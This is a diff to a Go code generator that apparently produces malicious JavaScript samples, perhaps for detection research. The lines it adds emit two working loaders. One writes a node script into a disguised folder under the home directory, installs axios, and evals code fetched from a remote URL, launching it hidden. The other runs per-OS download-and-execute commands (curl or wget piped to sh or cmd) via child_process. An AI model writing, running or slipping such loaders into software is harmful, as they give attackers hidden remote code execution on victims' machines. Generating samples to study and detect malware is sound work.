@@ -178,6 +178,10 @@ func (g *gen) payload(t Technique, esm bool) string {
 		code = g.fetchThen(g.splitEncoded(u, esm), esm, arg, g.sink(g.pickSink(), arg))
 	case DropAndRun:
 		code = g.dropAndRun(u)
+	case StagedWriter:
+		code = g.stagedWriter(u)
+	case ExecShellString:
+		code = g.execShellString()
 	case StealerPaths:
 		code = g.stealer(esm)
 	case EnvExfil:
@@ -550,4 +554,51 @@ require('https').get(%q, (res) => {
   });
 }).on('error', () => {});
 })();`, name, strings.Replace(u, "http://", "https://", 1))
+}
+
+// stagedWriter writes the loader as a string (a template literal or a
+// '+' chain), saves it in a folder under the home directory and starts
+// it with node, as the BestCity cluster's font payload does.
+func (g *gen) stagedWriter(u string) string {
+	dir := g.pick([]string{"Programs_X64", ".vscode-server-cache", ".npm-tools"})
+	var loader string
+	if g.rng.IntN(2) == 0 {
+		g.variant = "template"
+		loader = fmt.Sprintf("`const axios = require(\"axios\"); const url = \"%s\"; axios.post(url, {}, { headers: { \"x-secret-header\": \"secret\" } }).then((response) => { eval(response.data); }).catch(() => false);`", u)
+	} else {
+		g.variant = "chain"
+		loader = fmt.Sprintf("\"const source = '\" + __filename.replace(/\\\\/g, '/') + \"';\"\n  + \" const url = '%s';\"\n  + \"const axios = require('axios');\"\n  + \"axios.get(url, { headers: { 'x-secret-header': 'secret' } }).catch(function (err) {\"\n  + \"const error = err.response.data;\"\n  + \"const handler = new Function('require', error);\"\n  + \"handler(require);\"\n  + \"});\"", u)
+	}
+	return fmt.Sprintf(`(() => {
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
+const { exec } = require('child_process');
+const target = path.join(os.homedir(), %q);
+const run = %s;
+try {
+  fs.mkdirSync(target, { recursive: true });
+  fs.writeFileSync(path.join(target, 'main.js'), run);
+} catch (e) {}
+const cmd = os.platform() === 'win32'
+  ? 'cd "' + target + '" && powershell -Command "Start-Process node -ArgumentList main.js -WindowStyle Hidden"'
+  : 'cd "' + target + '" && npm init -y >/dev/null && npm install axios >/dev/null 2>&1 && nohup node main.js > /dev/null 2>&1 &';
+exec(cmd, { windowsHide: true }, () => {});
+})();`, dir, loader)
+}
+
+// execShellString keeps a download-and-run command per OS in the code
+// and runs the one for this machine with child_process.
+func (g *gen) execShellString() string {
+	u := g.pick(shellURLs)
+	return fmt.Sprintf(`(() => {
+const os = require('os');
+const { exec } = require('child_process');
+const commands = {
+  win32: 'powershell.exe -WindowStyle Hidden -Command "curl %s?os=win | cmd"',
+  darwin: "curl -s '%s?os=mac' | sh",
+  linux: "wget -qO- '%s?os=linux' | sh",
+};
+exec(commands[os.platform()] || commands.linux, { windowsHide: true }, () => {});
+})();`, u, u, u)
 }
